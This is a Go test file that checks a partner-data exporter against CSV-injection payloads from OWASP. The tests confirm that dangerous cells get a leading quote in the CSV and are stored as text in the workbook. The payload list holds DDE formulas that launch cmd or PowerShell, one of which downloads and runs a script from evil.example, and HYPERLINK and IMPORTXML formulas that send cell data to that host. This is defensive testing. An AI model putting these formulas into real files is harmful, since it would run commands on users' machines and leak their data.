package exporters

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"partneratlas/core"
)

// owaspPayloads are CSV-injection payloads from the OWASP CSV Injection page
// and its references: formulas, DDE, and the characters that start one.
var owaspPayloads = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1+1`,
	`-2+3`,
	`%0A-1+1`,
	"\t=1",
	"\r=1",
	"\n=1",
	` =1+1`,
	`=DDE("cmd";"/C calc";"!A0")A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`,
	`@cmd|'/c notepad'!'A1'`,
	`+cmd|'/c powershell IEX(wget evil.example/x.ps1)'!A0`,
}

// payloadEcosystem puts each payload in every text a partner carries:
// name, owner, region, override reason and an unmapped column.
func payloadEcosystem() *core.Ecosystem {
	e := core.NewEcosystem("Injection", testToday)
	for i, s := range owaspPayloads {
		p := &core.Partner{Name: s + " #" + string(rune('A'+i)), Owner: s, Region: s, Roles: []core.Role{core.Channel},
			Extras: []core.Extra{{Column: "Notes", Value: s}, {Column: "Amount", Value: "-12.5"}}}
		p.SetValue(core.SharedICP, 3)
		e.Partners = append(e.Partners, p)
	}
	return e
}

// TestCSVInjectionPayloads: every payload is written behind a quote, real
// numbers are not.
func TestCSVInjectionPayloads(t *testing.T) {
	e := payloadEcosystem()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, e); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for i, s := range owaspPayloads {
		row := rows[i+1]
		for _, h := range []string{"Owner", "Region", "Notes"} {
			got := row[col[h]]
			dangerous := strings.ContainsAny(strings.TrimLeft(s, " ")[:1], "=+-@\t\r\n")
			if dangerous && !strings.HasPrefix(got, "'") {
				t.Errorf("%s of payload %q = %q, want it behind a quote", h, s, got)
			}
			if !dangerous && got != s {
				t.Errorf("%s of payload %q = %q, want it unchanged", h, s, got)
			}
		}
		if got := row[col["Shared ICP"]]; got != "3" {
			t.Errorf("Shared ICP = %q, want the number 3 untouched", got)
		}
		if got := row[col["Score"]]; strings.HasPrefix(got, "'") {
			t.Errorf("Score = %q, a number behind a quote", got)
		}
	}
}

// TestWorkbookInjectionPayloads: in the workbook every payload is a text
// cell, never a formula, and reads back as written.
func TestWorkbookInjectionPayloads(t *testing.T) {
	e := payloadEcosystem()
	data, f := export(t, e)
	xml := partnersXML(t, zipFiles(t, data))
	if n := strings.Count(xml, "<f>"); n != 2*len(e.Partners) {
		t.Errorf("%d formulas on the Partners sheet, want %d (Score and Tier only)", n, 2*len(e.Partners))
	}
	rows, err := f.GetRows(SheetPartners)
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for i, s := range owaspPayloads {
		for _, h := range []string{"Owner", "Region", "Notes"} {
			if got := cellAt(rows[i+1], col[h]); got != s && got != strings.ReplaceAll(s, "\r", "\n") {
				t.Errorf("%s of payload %q reads back %q", h, s, got)
			}
		}
	}
}
